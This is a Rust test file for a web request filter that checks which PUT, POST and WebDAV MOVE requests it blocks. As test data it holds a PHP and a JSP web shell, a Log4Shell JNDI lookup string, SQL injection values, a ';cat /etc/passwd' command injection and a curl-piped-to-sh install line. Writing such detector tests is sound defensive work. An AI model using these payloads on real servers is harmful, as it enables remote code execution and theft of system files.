//! What PUT stores is read as a file: honest sources and documents pass under any type that names no
//! structure, and what harms in a file, or shows itself as values, is found as in any body.

use std::sync::LazyLock;

use portcullis_semantic::{Analysis, Detectors, Level};

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

fn is_blocked(method: &str, content_type: &str, body: &str) -> bool {
    is_blocked_at("/dav/a.txt", method, content_type, body)
}

fn is_blocked_at(target: &str, method: &str, content_type: &str, body: &str) -> bool {
    let mut analysis = Analysis::new();
    let fields = [(&b"Content-Type"[..], content_type.as_bytes())];
    analysis.request_head(&DETECTORS, method.as_bytes(), target.as_bytes(), fields.into_iter());
    analysis.request_body(&DETECTORS, content_type.as_bytes(), body.as_bytes());
    analysis.worst(&DETECTORS, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
}

const DOCUMENTS: &[&str] = &[
    "#!/bin/sh\nset -e\ncd /srv/app; cat /etc/os-release\ncurl -fsSL https://a.example/install.sh | sh\nrm -rf /tmp/build && mkdir -p /tmp/build\n",
    "CREATE TABLE a (id INT);\nINSERT INTO a VALUES (1);\nSELECT * FROM a WHERE 1=1 UNION SELECT 2;\nDROP TABLE a; -- the end of it\n",
    "import subprocess\n\ndef run(x):\n    return subprocess.check_output(['ls', x])\n\nprint(run('/etc/nginx/nginx.conf'))\n# done ' or 1=1 --\n",
    "server {\n  listen 80;\n  location / { proxy_pass http://127.0.0.1:3000; }\n  error_log /var/log/nginx/error.log;\n}\n# as it stands in /etc/nginx\n",
];

#[test]
fn documents_pass() {
    for body in DOCUMENTS {
        for content_type in ["application/octet-stream", "", "text/plain"] {
            assert!(!is_blocked("PUT", content_type, body), "{content_type}: {body}");
        }
    }
}

#[test]
fn what_harms_in_a_file_is_found() {
    let text =
        "one line of text\nanother line of text, which makes it a document and not a value of a few bytes\n"
            .repeat(3);
    for payload in [
        "<?php system($_GET['c']); ?>",
        "<%@ page import=\"java.util.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        "${jndi:ldap://a.example/x}",
    ] {
        for body in
            [format!("{payload}\n{text}"), format!("{text}{payload}\n"), format!("{text}{payload}\n{text}")]
        {
            for content_type in ["application/octet-stream", "", "text/plain"] {
                assert!(is_blocked("PUT", content_type, &body), "{content_type}: {body}");
            }
        }
    }
}

/// What shows itself as a form, JSON or XML is values whatever the method; so are short bodies and lines.
#[test]
fn values_stay_values() {
    let words = "ordinary words of a field, as many as it takes to be more than a field has ".repeat(3);
    for (content_type, body) in [
        ("application/octet-stream", "id=1'+or+'1'='1&x=2".to_owned()),
        ("application/octet-stream", format!("{{\n\"a\": \"{words}\",\n\"id\": \"1' or '1'='1\"\n}}")),
        ("application/json", format!("{{\n\"a\": \"{words}\",\n\"id\": \"1' or '1'='1\"\n}}")),
        ("application/x-www-form-urlencoded", format!("a={}&id=1'+or+'1'='1", words.replace(' ', "+"))),
        ("text/xml", format!("<a>\n<b>{words}</b>\n<id>1' or '1'='1</id>\n</a>")),
        ("", format!("<a>\n<b>{words}</b>\n<id>1' or '1'='1</id>\n</a>")),
        ("application/octet-stream", ";cat /etc/passwd".to_owned()),
        ("application/octet-stream", format!("{words};cat /etc/passwd")),
    ] {
        assert!(is_blocked("PUT", content_type, &body), "{content_type}: {body}");
    }
    for body in DOCUMENTS.iter().take(2) {
        assert!(is_blocked("POST", "application/octet-stream", body), "{body}");
    }
}

/// A source that servers run, and that does nothing.
const SETTINGS: &str = "<?php\n\n/** Settings of the site. */\nreturn [\n    'title' => 'A site',\n    'items' => [1, 2, 3],\n    'description' => 'Words about the site, as many as it takes to be a document',\n    'footer' => 'More words',\n];\n";

/// A file that servers run is one by the name that it is stored under, whatever it says and is said of it.
#[test]
fn names_of_what_is_stored() {
    let text = "<% out.println(1); %>";
    for target in ["/a.jsp", "/a.jsp/", "/a.jsp//", "/dav/a.jsp?x=1", "/a.php%20", "/a.JsPx#b", "/x/a.phtml"]
    {
        for content_type in ["application/octet-stream", "", "text/plain", "image/png", "application/json"] {
            assert!(is_blocked_at(target, "PUT", content_type, text), "{target} {content_type}");
        }
        for body in
            [format!("{{{text}"), format!("[{text}]"), format!("{{}}{text}"), format!("{{}}\n{text}\n")]
        {
            assert!(is_blocked_at(target, "PUT", "application/json", &body), "{target}: no JSON: {body}");
        }
        assert!(!is_blocked_at(target, "GET", "", ""), "{target}");
        assert!(!is_blocked_at(target, "PUT", "", ""), "{target}: nothing is stored");
    }
    let about = "{\"message\": \"a page\", \"content\": \"aGVsbG8=\"}";
    for (target, content_type, body) in [
        ("/api/v1/repos/a/b/contents/src/index.php", "application/json", about),
        ("/index.php/apps/notes/7", "application/json", about),
        ("/index.php/apps/notes/7", "application/json", "[{\"a\": 1}]"),
        ("/a.jsp", "application/json", "{\"a\": 1}\n{\"a\": 2}\n"),
        ("/index.php/apps/notes/7", "text/plain", "a note"),
        ("/files/report.pdf", "application/pdf", "%PDF-1.4 and so on"),
        ("/dav/settings.php", "", SETTINGS),
        ("/", "text/plain", "a note"),
    ] {
        assert!(!is_blocked_at(target, "PUT", content_type, body), "{target}: {body}");
    }
}

/// WebDAV stores a text first and gives it another name then.
#[test]
fn names_that_a_file_is_moved_to() {
    let is_blocked = |to: &str| {
        let mut analysis = Analysis::new();
        let fields = [(&b"Destination"[..], to.as_bytes())];
        analysis.request_head(&DETECTORS, b"MOVE", b"/dav/a.txt", fields.into_iter());
        analysis.worst(&DETECTORS, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
    };
    assert!(is_blocked("https://a.example/dav/a.jsp") && is_blocked("/dav/a.php/"));
    assert!(!is_blocked("https://a.example/dav/b.txt") && !is_blocked("http://a.example/b%20c/d/"));
}
